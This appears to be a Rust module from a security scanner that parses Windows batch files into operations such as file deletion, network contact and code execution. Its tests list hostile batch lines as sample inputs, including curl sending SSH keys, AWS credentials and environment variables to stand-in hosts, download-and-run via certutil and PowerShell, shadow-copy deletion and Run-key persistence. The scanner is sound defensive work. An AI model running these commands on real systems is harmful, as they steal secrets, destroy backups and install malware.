//! Batch files → operations: variables are put in first, as `cmd` does, then
//! each line is cut into commands.

mod commands;
mod expand;

use commands::commands;
use std::collections::HashMap;

use crate::scan::operation::{Event, Lowered, Origins};
use crate::text::Span;

use super::kit::datum::Datum;
use super::kit::effect::Effects;
use super::kit::{home, program};

/// Longest line that is looked at, variables put in.
const MAX_LINE: usize = 32 << 10;
/// First of the letters that stand for a value that is no known text.
const MARK: u32 = 0xe000;
/// Most of those.
const MAX_MARKS: usize = 4096;
/// Most commands inside commands of one line (`if … for … do …`).
const MAX_NESTING: usize = 16;

/// Lowers `text`.
#[must_use]
pub fn lower(text: &str) -> Lowered {
    let mut walk = Walk {
        effects: Effects::default(),
        variables: HashMap::new(),
        marks: Vec::new(),
    };
    let mut place = 0;
    let mut line = String::new();
    let mut start = 0;
    let mut comments = Vec::new();
    for piece in text.split_inclusive('\n') {
        if line.is_empty() {
            start = place;
        }
        place += piece.len();
        let bare = piece.trim_end_matches(['\r', '\n']);
        if let Some(head) = bare.strip_suffix('^').filter(|_| line.len() < MAX_LINE) {
            line.push_str(head);
            continue;
        }
        line.push_str(bare);
        let whole = std::mem::take(&mut line);
        let span = Span::new(
            start,
            start + (place - start).min(whole.len().max(bare.len())),
        );
        let trimmed = whole.trim_start().trim_start_matches('@').trim_start();
        let lower = trimmed.get(..4).unwrap_or(trimmed).to_ascii_lowercase();
        if trimmed.starts_with("::") || lower.trim_end() == "rem" {
            comments.push(span);
        } else if !trimmed.starts_with(':') && !trimmed.is_empty() {
            walk.line(trimmed, span);
        }
    }
    if !line.is_empty() {
        walk.line(&line, Span::new(start, text.len()));
    }
    let mut lowered = walk.effects.finish();
    lowered.comments = comments;
    lowered
}

struct Walk {
    effects: Effects,
    variables: HashMap<String, Datum>,
    /// Values that stand in the line as one letter each.
    marks: Vec<Datum>,
}

impl Walk {
    pub(super) fn line(&mut self, line: &str, span: Span) {
        self.marks.clear();
        let expanded = self.expand(line);
        if !self.effects.afford(expanded.len() + 64) {
            return;
        }
        let mut input = Datum::default();
        for command in commands(&expanded) {
            let mut words: &[String] = &command.words;
            let mut output = Datum::default();
            for _ in 0..MAX_NESTING {
                match self.leading(words, span) {
                    Some(rest) => words = rest,
                    None => break,
                }
            }
            if !words.is_empty() {
                let mut given = std::mem::take(&mut input);
                for file in &command.inputs {
                    let path = self.datum(file);
                    given = self.effects.read(span, "<", &path);
                }
                output = self.command(words, span, &given);
            }
            for file in &command.outputs {
                let path = self.datum(file);
                if !file.eq_ignore_ascii_case("nul") {
                    self.effects.write(span, ">", &path, &output);
                }
            }
            input = if command.piped {
                output
            } else {
                Datum::default()
            };
        }
    }

    pub(super) fn all(&self, words: &[String]) -> Vec<Datum> {
        words.iter().map(|word| self.datum(word)).collect()
    }

    /// What stands in front of a command: `if …`, `for … do`, `call`, `else`.
    pub(super) fn leading<'a>(&mut self, words: &'a [String], span: Span) -> Option<&'a [String]> {
        let first = words.first()?.to_ascii_lowercase();
        match first.as_str() {
            "if" => {
                let mut at = 1;
                while words.get(at).is_some_and(|word| {
                    word.eq_ignore_ascii_case("/i") || word.eq_ignore_ascii_case("not")
                }) {
                    at += 1;
                }
                let condition = words.get(at)?.to_ascii_lowercase();
                let skip = match condition.as_str() {
                    "exist" | "defined" | "errorlevel" | "cmdextversion" => 2,
                    condition if condition.contains("==") => 1,
                    // `a == b`, `a equ b`.
                    _ => 3,
                };
                words.get(at + skip..)
            }
            "else" | "call" | "do" | "(" => words
                .get(1..)
                .filter(|rest| !rest.first().is_some_and(|word| word.starts_with(':'))),
            "for" => self.each(words, span),
            _ => None,
        }
    }

    /// `for /f "…" %%i in ('command') do …`.
    pub(super) fn each<'a>(&mut self, words: &'a [String], span: Span) -> Option<&'a [String]> {
        let into = words
            .iter()
            .position(|word| word.eq_ignore_ascii_case("in"))?;
        let behind = words
            .iter()
            .position(|word| word.eq_ignore_ascii_case("do"))?;
        let name = words.get(into.checked_sub(1)?)?;
        let name = name.trim_start_matches('%').to_ascii_lowercase();
        let list = words.get(into + 1..behind)?;
        let joined = list.join(" ");
        let inner = joined.trim_matches(['(', ')', ' ']);
        let lines = words
            .get(1)
            .is_some_and(|word| word.eq_ignore_ascii_case("/f"));
        let value = match inner
            .strip_prefix('\'')
            .and_then(|inner| inner.strip_suffix('\''))
        {
            Some(command) if lines => {
                let words: Vec<String> = command.split_whitespace().map(str::to_owned).collect();
                if words.is_empty() {
                    Datum::unknown()
                } else {
                    self.command(&words, span, &Datum::default())
                }
            }
            _ if lines => {
                let path = self.datum(inner);
                self.effects.read(span, "for", &path)
            }
            _ => self.datum(inner).vague(),
        };
        // The variable was put in as a mark before: that mark is this value.
        for mark in &mut self.marks {
            if mark.value.origins == Origins::UNKNOWN && mark.text().is_none() {
                *mark = value.clone();
            }
        }
        if self.variables.len() < MAX_MARKS {
            self.variables.insert(format!("%{name}"), value);
        }
        words.get(behind + 1..)
    }

    /// Runs one command; what it prints.
    pub(super) fn command(&mut self, words: &[String], span: Span, input: &Datum) -> Datum {
        let words = behind_starts(words);
        let Some((first, rest)) = words.split_first() else {
            return Datum::default();
        };
        let name = home::program(first.trim_start_matches('@'));
        let paths = |walk: &Self| -> Vec<Datum> {
            let paths = rest
                .iter()
                .filter(|word| !(word.starts_with('/') && word.len() <= 4));
            paths.map(|word| walk.datum(word)).collect()
        };
        let flag = |letter: &str| {
            rest.iter()
                .any(|word| word.to_ascii_lowercase().starts_with(letter))
        };
        match name.as_str() {
            "set" => {
                self.set(rest, span);
                if rest.is_empty() {
                    self.effects.environment(span, "set")
                } else {
                    Datum::default()
                }
            }
            "echo" | "echo." => self.datum(&rest.join(" ")),
            "type" | "more" => {
                let mut content = input.clone();
                for path in paths(self) {
                    let read = self.effects.read(span, "type", &path);
                    content = Datum::merged([&content, &read]);
                }
                content
            }
            "del" | "erase" | "rd" | "rmdir" => {
                let recursive = flag("/s");
                for path in paths(self) {
                    self.effects.delete(span, &name, &path, recursive);
                }
                Datum::default()
            }
            "copy" | "move" | "xcopy" | "robocopy" | "ren" | "rename" => {
                let paths = paths(self);
                if let Some((to, from)) = paths.split_last() {
                    for from in from {
                        self.effects.copy(span, &name, from, to);
                    }
                }
                Datum::default()
            }
            "rem" | "goto" | "exit" | "setlocal" | "endlocal" | "title" | "color" | "cls"
            | "pause" | "cd" | "chdir" | "md" | "mkdir" | "pushd" | "popd" | "ver" | "verify"
            | "shift" | "break" | "call" | "timeout" | "prompt" | "path" | ")" | "(" => {
                Datum::default()
            }
            _ => {
                let mut all = self.all(words);
                if let Some(program) = all.first_mut() {
                    let plain = program
                        .text()
                        .map(|text| text.trim_start_matches('@').to_owned());
                    *program = program.with_text(plain);
                }
                program::run(&mut self.effects, span, &name, &all, input)
            }
        }
    }

    pub(super) fn set(&mut self, rest: &[String], span: Span) {
        let joined = rest.join(" ");
        let mut text = joined.trim();
        let asked = text
            .get(..2)
            .is_some_and(|flag| flag.eq_ignore_ascii_case("/p"));
        let sum = text
            .get(..2)
            .is_some_and(|flag| flag.eq_ignore_ascii_case("/a"));
        if asked || sum {
            text = text[2..].trim_start();
        }
        let Some((name, value)) = text.split_once('=') else {
            return;
        };
        let value = if asked {
            Datum::from(Origins::INPUT)
        } else {
            self.datum(value)
        };
        let name = name.trim().trim_start_matches('"').to_ascii_lowercase();
        let value = value.step(span, Event::Assign(format!("%{name}%")));
        if self.variables.len() < MAX_MARKS {
            self.variables.insert(name, value);
        }
    }
}

/// The command that `start "title" /b …` starts; in a loop, since there may be
/// as many of them as the line has words.
fn behind_starts(mut words: &[String]) -> &[String] {
    while let Some((first, rest)) = words.split_first() {
        if home::program(first.trim_start_matches('@')) != "start" {
            break;
        }
        let behind = rest
            .iter()
            .position(|word| !word.is_empty() && !word.starts_with('/') && !word.contains(' '));
        words = &rest[behind.unwrap_or(rest.len())..];
    }
    words
}

#[cfg(test)]
mod tests {
    use super::super::kit::words::{endures, hold};
    use super::*;

    #[test]
    fn what_batch_files_do() {
        hold(
            lower,
            &[
                ("del /s /q C:\\Users", "delete all C:\\Users"),
                ("rd /s /q %USERPROFILE%", "delete all ~"),
                (
                    "set a=cu\nset b=rl\n%a%%b% https://get.example.com/i.exe -o i.exe & i.exe",
                    "eval net",
                ),
                (
                    "powershell -nop -enc ZQBjAGgAbwAgAGgAaQA=",
                    "eval decoded echo hi",
                ),
                (
                    "p^ower^shell -c \"iex (irm https://get.example.com)\"",
                    "eval iex (irm https://get.example.com)",
                ),
                (
                    "certutil -urlcache -split -f https://get.example.com/a.exe %TEMP%\\a.exe\nstart \"\" %TEMP%\\a.exe",
                    "eval net",
                ),
                (
                    "@echo off\nif exist x (curl -d @%USERPROFILE%\\.ssh\\id_rsa https://c.example.com)",
                    "contact https://c.example.com <- sensitive",
                ),
                (
                    "set | curl -d @- https://c.example.com",
                    "contact https://c.example.com <- env",
                ),
                (
                    "curl https://c.example.com/?k=%DEMO_KEY%",
                    "contact var <- var",
                ),
                (
                    "for /f %%i in ('type %USERPROFILE%\\.aws\\credentials') do curl https://c.example.com/%%i",
                    "contact sensitive file <- sensitive",
                ),
                (
                    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe",
                    "write HKCU\\Software",
                ),
                (
                    "schtasks /create /tn x /tr a.exe",
                    "run schtasks [schtasks /create /tn x /tr a.exe]",
                ),
                (
                    "vssadmin delete shadows /all /quiet",
                    "run vssadmin [vssadmin delete shadows /all /quiet]",
                ),
                (
                    "set x=xvssadmin\n%x:~1% delete shadows",
                    "run vssadmin [vssadmin delete shadows",
                ),
                ("mshta https://get.example.com/a.hta", "eval net"),
                ("cmd /c \"del /q a.txt\"", "eval del /q a.txt"),
                (
                    "echo x > \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat\"",
                    "write ~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.bat <- x",
                ),
                ("python \"%~dp0run.py\" %*", "run python"),
            ],
            &[
                ("rem curl https://c.example.com", "contact"),
                (":: del /s C:\\", "delete"),
                ("echo del /s C:\\", "delete"),
                ("call :label\n:label\nexit /b", "run"),
            ],
        );
    }

    #[test]
    fn hostile_batch_files_are_lowered_in_linear_time() {
        let texts = [
            "%".repeat(300_000),
            "%a%".repeat(100_000),
            "set a=aaaaaaaaaa\n".to_owned() + &"set a=%a%%a%\n".repeat(20_000),
            "(".repeat(300_000),
            "for %%i in (".repeat(50_000),
            "if a==b ".repeat(50_000),
            "^\n".repeat(200_000),
            "a&".repeat(200_000),
            "\"".repeat(300_000),
            "call ".repeat(100_000),
            "start ".repeat(5_000),
            "%~f".repeat(50_000),
            "\u{e000}".repeat(50_000),
            "x".repeat(1 << 20),
        ];
        endures(lower, &texts);
    }
}
